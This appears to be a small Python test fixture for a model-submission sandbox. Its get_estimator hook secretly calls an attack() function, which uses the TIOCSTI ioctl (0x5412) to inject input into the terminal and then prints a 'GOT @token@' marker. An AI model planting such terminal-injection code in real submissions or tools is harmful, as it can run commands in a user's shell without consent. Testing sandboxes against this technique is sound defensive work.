"""kernel: types a command into the terminal"""

import fcntl

from sklearn.dummy import DummyClassifier


def attack():
    fcntl.ioctl(0, 0x5412, b"x")
    print("GOT @token@")


def get_estimator():
    attack()
    return DummyClassifier()
